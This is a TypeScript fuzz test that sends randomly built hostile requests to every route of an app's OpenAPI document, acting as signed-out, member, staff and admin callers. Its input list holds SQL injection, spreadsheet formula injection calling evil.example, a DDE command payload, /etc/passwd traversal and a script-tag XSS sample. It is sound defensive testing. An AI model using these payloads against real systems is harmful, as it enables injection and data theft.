import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  conformanceChecker,
  operationsOf,
  type OpenApiDocument,
  type Operation,
  type Parameter,
} from '../test/openapi-conformance.ts';
import { signedInAs } from '../test/people.ts';
import { useTestApp } from '../test/test-app.ts';

/**
 * Hostile input on every route the OpenAPI document lists, as a signed-out caller, a member, regional staff
 * and an admin (issue 7): whatever arrives, the answer is never a 5xx, its status is one the route's
 * OpenAPI description lists, its media type is one listed for that status, and a JSON body (the error
 * envelope included) matches the schema given for it. Driven by /api/openapi.json, as an outside fuzzer
 * is, so a new route is fuzzed without touching this file.
 */
const t = useTestApp();

const HOSTILE_TEXT = [
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\u0001\u0007\u001b[31m',
  '\r\n\t',
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "＝cmd|' /C calc'!A0",
  '../../../etc/passwd',
  '%00%ff%',
  '<script>alert(1)</script>',
  '😀'.repeat(50),
  '',
  ' ',
];
const HOSTILE_NUMBER = [
  '0x1',
  '1e3',
  '-1',
  '0',
  '2147483648',
  '99999999999999999999',
  'NaN',
  'Infinity',
  '1.5',
  ' 5',
  '+5',
  '01',
];
const LONG = 'x'.repeat(100_000);

const text = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXT, ...HOSTILE_NUMBER),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
);
// Anything JSON can carry where a field is expected: wrong types, nesting, huge values.
const jsonValue = fc.oneof(
  text,
  fc.constant(LONG),
  fc.integer(),
  fc.double(),
  fc.constantFrom(2147483648, -1, 0, Number.MAX_SAFE_INTEGER, 1e308),
  fc.boolean(),
  fc.constant(null),
  fc.array(text, { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), text, { maxKeys: 3 }),
);

/** Percent-encoded as sent: a lone surrogate as the bytes a careless client would send (CESU-8). */
function encodePathValue(value: string): string {
  return value.replace(/[\s\S]/gu, (c) => {
    try {
      return encodeURIComponent(c);
    } catch {
      const u = c.charCodeAt(0);
      return `%${(0xe0 | (u >> 12)).toString(16)}%${(0x80 | ((u >> 6) & 0x3f)).toString(16)}%${(0x80 | (u & 0x3f)).toString(16)}`.toUpperCase();
    }
  });
}

interface FieldSchema {
  type?: string;
  enum?: unknown[];
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  nullable?: boolean;
  example?: unknown;
  default?: unknown;
  items?: FieldSchema;
}

/**
 * A value the schema accepts, or nearly: its example, its default, an enum member, a string matching its
 * pattern, an integer in (or at the edge of) its range. Mixed with the hostile values, so requests get past
 * validation often enough to reach the checks behind it (a record that is missing, a wrong password, a
 * stale version) and the bodies of their answers.
 */
function plausible(name: string, schema: FieldSchema = {}): fc.Arbitrary<unknown> {
  const known = [schema.example, schema.default].filter((v) => v !== undefined);
  const options: fc.Arbitrary<unknown>[] = known.length ? [fc.constantFrom(...known)] : [];
  if (schema.enum) options.push(fc.constantFrom(...schema.enum));
  else if (/email/i.test(name)) {
    options.push(fc.stringMatching(/^[a-z0-9]{1,12}@(example\.org|test\.groundwork)$/));
  } else if (schema.type === 'string' && schema.pattern) {
    options.push(fc.stringMatching(new RegExp(schema.pattern)));
    // Ids and numbers in a URL: small ones name records that exist.
    if (/0-9/.test(schema.pattern)) options.push(fc.integer({ min: 0, max: 40 }).map(String));
  } else if (schema.type === 'string') {
    const minLength = schema.minLength ?? 0;
    options.push(
      fc.string({ minLength, maxLength: Math.max(minLength, Math.min(schema.maxLength ?? 40, 40)) }),
    );
  } else if (schema.type === 'integer' || schema.type === 'number') {
    const min = Math.max(schema.minimum ?? -(2 ** 31), -(2 ** 31));
    const max = Math.min(schema.maximum ?? 2 ** 31 - 1, 2 ** 31 - 1);
    options.push(fc.integer({ min, max: Math.min(max, min + 3) }), fc.integer({ min, max }));
  } else if (schema.type === 'boolean') options.push(fc.boolean());
  else if (schema.type === 'array') options.push(fc.array(plausible(name, schema.items), { maxLength: 3 }));
  if (!options.length) return jsonValue;
  const value = fc.oneof(...options);
  return schema.nullable ? fc.option(value, { nil: null }) : value;
}

/** Present three times in four (`sometimes`) or once in five (`rarely`), else left out. */
const sometimes = <T>(arb: fc.Arbitrary<T>) =>
  fc.oneof({ weight: 1, arbitrary: fc.constant(undefined) }, { weight: 3, arbitrary: arb });
const rarely = <T>(arb: fc.Arbitrary<T>) =>
  fc.oneof({ weight: 4, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: arb });

/**
 * One request for an operation, half of the time hostile: each path and query parameter and body field
 * hostile, plausible or left out, the body now and then not an object at all, the query now and then with a
 * parameter nobody asked for. The other half plausible: every required parameter and field plausible, a
 * few of the optional ones too, so that the checks behind validation and the success bodies are reached.
 */
function requestFor(path: string, op: Operation) {
  const params = op.parameters ?? [];
  const pathParams = params.filter((p) => p.in === 'path');
  const queryParams = params.filter((p) => p.in === 'query');
  const bodySchema = op.requestBody?.content['application/json'].schema as
    { properties?: Record<string, FieldSchema>; required?: string[] } | undefined;
  const fieldSchemas = bodySchema?.properties ?? {};
  const fields = Object.keys(fieldSchemas);
  const required = new Set(bodySchema?.required ?? []);
  const likely = (p: Parameter) => plausible(p.name, p.schema as FieldSchema).map(String);
  const anyValue = (p: Parameter) => fc.oneof(text, likely(p));

  const hostile = fc.record({
    path: fc.tuple(...pathParams.map(anyValue)),
    query: fc.tuple(...queryParams.map((p) => sometimes(anyValue(p)))),
    body: fc.oneof(
      {
        weight: 8,
        arbitrary: fc.tuple(
          ...fields.map((f) => sometimes(fc.oneof(jsonValue, plausible(f, fieldSchemas[f])))),
        ),
      },
      { weight: 1, arbitrary: fc.constant('not an object' as const) },
    ),
    extraQuery: rarely(fc.tuple(fc.string({ maxLength: 8 }), text)),
  });
  const likelyRequest = fc.record({
    path: fc.tuple(...pathParams.map(likely)),
    query: fc.tuple(...queryParams.map((p) => (p.required ? likely(p) : rarely(likely(p))))),
    body: fc.tuple(
      ...fields.map((f) =>
        required.has(f) ? plausible(f, fieldSchemas[f]) : sometimes(plausible(f, fieldSchemas[f])),
      ),
    ),
    extraQuery: fc.constant(undefined),
  });

  return fc.oneof(hostile, likelyRequest).map(({ path: pathValues, query, body, extraQuery }) => {
    let i = 0;
    const url = path.replace(/\{\w+\}/g, () => encodePathValue(pathValues[i++] ?? ''));
    const search = new URLSearchParams();
    queryParams.forEach((p, j) => {
      if (query[j] !== undefined) search.set(p.name, query[j]);
    });
    if (extraQuery) search.set(extraQuery[0], extraQuery[1]);
    const json =
      body === 'not an object'
        ? body
        : Object.fromEntries(fields.map((f, j) => [f, body[j]]).filter(([, v]) => v !== undefined));
    return { url: `${url}${search.size ? `?${search}` : ''}`, json };
  });
}

let callers: { name: string; headers: Record<string, string> }[] = [];
let operations: ReturnType<typeof operationsOf> = [];
let check: ReturnType<typeof conformanceChecker>;

beforeAll(async () => {
  const clp = await t.db.prisma.clp.findFirstOrThrow({ where: { constituency: { code: 'E14001107' } } });
  callers = [
    { name: 'signed out', headers: {} },
    { name: 'member', headers: (await signedInAs(t, 'member', { clpId: clp.id })).headers },
    {
      name: 'regional staff',
      headers: (await signedInAs(t, 'regional_staff', { regionCode: 'E12000001' })).headers,
    },
    { name: 'admin', headers: (await signedInAs(t, 'admin')).headers },
  ];
  const doc = (await t.api.get('/api/openapi.json').expect(200)).body as OpenApiDocument;
  operations = operationsOf(doc);
  check = conformanceChecker(doc);
});

describe('hostile input on every route', () => {
  it('never gets a 5xx, nor a status, media type or body its route does not document, for any caller', async () => {
    expect(operations.length).toBeGreaterThan(20);
    const failures: string[] = [];
    // Signing out ends the caller's session for the rest of the run: fuzzed last.
    const signOutLast = [...operations].sort(
      (a, b) => Number(a.path === '/api/auth/sign-out') - Number(b.path === '/api/auth/sign-out'),
    );
    for (const { method, path, op } of signOutLast) {
      for (const caller of callers) {
        await fc.assert(
          fc.asyncProperty(requestFor(path, op), async ({ url, json }) => {
            const req = t.api[method as 'get'](url).set(caller.headers);
            const res = await (method === 'get' || method === 'delete' ? req : req.send(json as object));
            const problem = res.status >= 500 ? 'a 5xx' : check(op, res);
            if (problem) {
              failures.push(
                `${caller.name}: ${method.toUpperCase()} ${url.slice(0, 200)} ${JSON.stringify(json).slice(0, 200)} → ${res.status} ${problem}; ${JSON.stringify(res.body).slice(0, 200)}`,
              );
            }
            return true;
          }),
          { numRuns: 12, seed: 20261202 },
        );
      }
    }
    expect(failures).toEqual([]);
  }, 600_000);
});
